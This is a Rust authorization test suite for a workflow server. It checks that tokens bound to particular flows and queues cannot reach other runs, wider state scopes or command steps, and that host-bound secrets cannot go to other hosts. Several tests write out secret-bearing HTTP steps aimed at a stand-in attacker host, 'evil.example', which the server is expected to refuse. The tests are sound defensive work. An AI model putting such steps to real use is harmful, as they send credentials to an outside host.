//! What definitions may do that were registered with a bound token.

use std::path::Path;

use serde_json::{Value, json};

use super::access::token;
use crate::kit::served::{Reply, Served};

fn ask(served: &Served, token: &str, method: &str, path: &str, body: &Value) -> Reply {
    let bearer = format!("Bearer {token}");
    let body = if method == "GET" { String::new() } else { body.to_string() };
    served.send(method, path, &[("authorization", &bearer), ("content-type", "application/json")], &body)
}

fn bound(folder: &Path) -> String {
    token(folder, "default", &["--scope", "admin", "--bind-flow", "f1", "--bind-queue", "q1"])
}

#[test]
fn attack_4_a_bound_token_registers_nothing_that_leaves_its_bindings() {
    let folder = tempfile::tempdir().unwrap();
    let (admin, bound) = (token(folder.path(), "default", &["--scope", "admin"]), bound(folder.path()));
    let served = Served::start(folder.path(), &["--auth", "tokens", "--allow-commands"]);
    let register = |token: &str, step: &Value| {
        let flow = json!({ "flow": "f1", "steps": { "call": step } });
        ask(&served, token, "POST", "/v1/flows", &flow)
    };
    for (step, named) in [
        (json!({ "start": { "flow": "f2" } }), "--bind-flow f2"),
        (json!({ "send": { "machine": "m2", "key": "k", "event": "go" } }), "--bind-flow m2"),
        (json!({ "worker": "q2" }), "--bind-queue q2"),
        (json!({ "http": { "get": "https://example.com" }, "queue": "q2" }), "--bind-queue q2"),
        (json!({ "command": ["id"] }), "isn't bound"),
    ] {
        let reply = register(&bound, &step);
        assert_eq!((reply.status, reply.code().as_str()), (403, "forbidden"), "{step}: {reply:?}");
        let detail = reply.json()["detail"].as_str().unwrap().to_owned();
        assert!(detail.contains("step \"call\"") && detail.contains(named), "{detail}");
        assert_eq!(register(&admin, &step).status, 201, "{step}");
    }
    for step in [
        json!({ "start": { "flow": "f1" } }),
        json!({ "send": { "machine": "f1", "key": "k", "event": "go" } }),
        json!({ "send": { "run": "${input}", "event": "go" } }),
        json!({ "worker": "q1" }),
        json!({ "http": { "get": "https://example.com" } }),
    ] {
        let reply = register(&bound, &step);
        assert_eq!(reply.status, 201, "{step}: {reply:?}");
    }
}

#[test]
fn attack_4_a_step_reaches_no_run_that_the_author_of_its_definition_may_not_see() {
    let folder = tempfile::tempdir().unwrap();
    let (admin, bound) = (token(folder.path(), "default", &["--scope", "admin"]), bound(folder.path()));
    let served = Served::start(folder.path(), &["--auth", "tokens"]);
    let waits = json!({ "flow": "f2", "accepts": { "go": {} }, "steps": { "wait": { "worker": "q2", "subscribes": ["go"] } } });
    assert_eq!(ask(&served, &admin, "POST", "/v1/flows", &waits).status, 201);
    let other = ask(&served, &admin, "POST", "/v1/flows/f2/runs", &json!({})).json()["runId"].clone();
    let calls =
        json!({ "flow": "f1", "steps": { "call": { "send": { "run": "${input}", "event": "go" } } } });
    assert_eq!(ask(&served, &bound, "POST", "/v1/flows", &calls).status, 201);
    let run = |input: &Value| {
        ask(&served, &bound, "POST", "/v1/flows/f1/runs?wait=30s", &json!({ "input": input })).json()
    };
    let error = |input: &Value| {
        let ended = run(input);
        assert_eq!(ended["status"], "failed", "{ended}");
        ended["error"].as_str().unwrap().replace(input.as_str().unwrap(), "RUN")
    };
    let (refused, missing) = (error(&other), error(&json!("no-such-run")));
    assert!(refused.contains("can't reach") && refused.contains("register it with"), "{refused}");
    assert_eq!(refused, missing, "whether there is such a run doesn't show");
    let log = |run: &Value| {
        ask(&served, &admin, "GET", &format!("/v1/runs/{}/events", run.as_str().unwrap()), &json!({})).body
    };
    assert!(!log(&other).contains("\"go\""));
    // An author without bindings may register the same definition.
    assert_eq!(ask(&served, &admin, "POST", "/v1/flows", &calls).status, 200);
    assert_eq!(run(&other)["status"], "completed");
    assert!(log(&other).contains("\"go\""));
    // And a bound author who registers it again takes nothing away.
    assert_eq!(ask(&served, &bound, "POST", "/v1/flows", &calls).status, 200);
    let again = ask(&served, &admin, "POST", "/v1/flows/f2/runs", &json!({})).json()["runId"].clone();
    assert_eq!(run(&again)["status"], "completed");
}

#[test]
fn attack_4_a_step_uses_no_state_that_the_author_of_its_definition_may_not_see() {
    let folder = tempfile::tempdir().unwrap();
    let (admin, bound) = (token(folder.path(), "default", &["--scope", "admin"]), bound(folder.path()));
    let worker = token(folder.path(), "default", &["--scope", "work", "--bind-queue", "q1"]);
    let served = Served::start(folder.path(), &["--auth", "tokens"]);
    let flow = json!({ "flow": "f1", "steps": { "work": { "worker": "q1" } } });
    let attempt = |author: &str| {
        assert!(ask(&served, author, "POST", "/v1/flows", &flow).status < 300);
        assert_eq!(ask(&served, author, "POST", "/v1/flows/f1/runs", &json!({})).status, 201);
        let claim = json!({ "worker": "w", "queues": ["q1"], "waitMs": 20_000 });
        ask(&served, &worker, "POST", "/v1/work/claim", &claim).json()["jobs"][0]["lease"].clone()
    };
    let set = |lease: &Value, from: u32, scope: &str| {
        let line = json!({ "state": { "set": "k", "value": 1, "scope": scope } });
        let lines = json!({ "lease": lease, "fromLine": from, "lines": [line] });
        ask(&served, &worker, "POST", "/v1/work/append", &lines)
    };
    let lease = attempt(&bound);
    for scope in ["tenant", "orders"] {
        let reply = set(&lease, 0, scope);
        assert_eq!(reply.code(), "invalid", "{scope}: {reply:?}");
        assert!(
            reply.json()["detail"].as_str().unwrap().contains("use the scope `run` or `flow`"),
            "{reply:?}"
        );
        let found = ask(&served, &admin, "GET", &format!("/v1/state/{scope}/k"), &json!({}));
        assert_eq!(found.code(), "no-such-key", "{scope}");
    }
    assert_eq!(set(&lease, 0, "run").status, 200);
    assert_eq!(set(&lease, 1, "flow").status, 200);
    // The operator's own definition may.
    let lease = attempt(&admin);
    assert_eq!(set(&lease, 0, "tenant").status, 200);
}

#[test]
fn attack_5_a_definition_uses_no_secret_of_another_tenant_or_for_another_host() {
    let folder = tempfile::tempdir().unwrap();
    let ours = token(folder.path(), "default", &["--scope", "operate"]);
    let theirs = token(folder.path(), "theirs", &["--scope", "operate"]);
    let secrets =
        [("FLOWLINE_SECRET_SHOP", "c2VjcmV0 host=*.shop.example"), ("FLOWLINE_SECRET_OLD", "c2VjcmV0")];
    let serve = ["serve", "--listen", "127.0.0.1:0", "--auth", "tokens"];
    let served = Served::command_with(folder.path(), &serve, &secrets).unwrap();
    assert!(served.began.contains("FLOWLINE_SECRET_OLD names no host"), "{}", served.began);
    assert!(!served.began.contains("FLOWLINE_SECRET_SHOP"), "{}", served.began);
    let register = |token: &str, url: &str, secret: &str| {
        let step = json!({ "http": { "post": url, "secret": secret } });
        ask(&served, token, "POST", "/v1/flows", &json!({ "flow": "f", "steps": { "tell": step } }))
    };
    for (url, secret, named) in [
        ("https://evil.example/x", "SHOP", "host=evil.example to FLOWLINE_SECRET_SHOP"),
        ("https://evil.example:9/x.shop.example", "SHOP", "host=evil.example"),
        ("https://eu.shop.example", "OLD", "host=eu.shop.example to FLOWLINE_SECRET_OLD"),
    ] {
        let reply = register(&ours, url, secret);
        assert_eq!((reply.status, reply.code().as_str()), (403, "forbidden"), "{url}: {reply:?}");
        let detail = reply.json()["detail"].as_str().unwrap().to_owned();
        assert!(detail.contains("step \"tell\"") && detail.contains(named), "{detail}");
    }
    for (url, secret) in [
        ("https://eu.shop.example:8443/x", "SHOP"),
        // Known when the step runs, or to another process.
        ("https://${input.host}/", "SHOP"),
        ("https://evil.example", "ELSEWHERE"),
    ] {
        let reply = register(&ours, url, secret);
        assert_eq!(reply.status, 201, "{url}: {reply:?}");
    }
    // Another tenant isn't told which secrets there are: theirs fail when they run, as if there were none of the name.
    for url in ["https://eu.shop.example", "https://evil.example", "https://${input.host}/"] {
        for secret in ["SHOP", "OLD", "ELSEWHERE"] {
            let reply = register(&theirs, url, secret);
            assert_eq!(reply.status, 201, "{url} {secret}: {reply:?}");
        }
    }
}
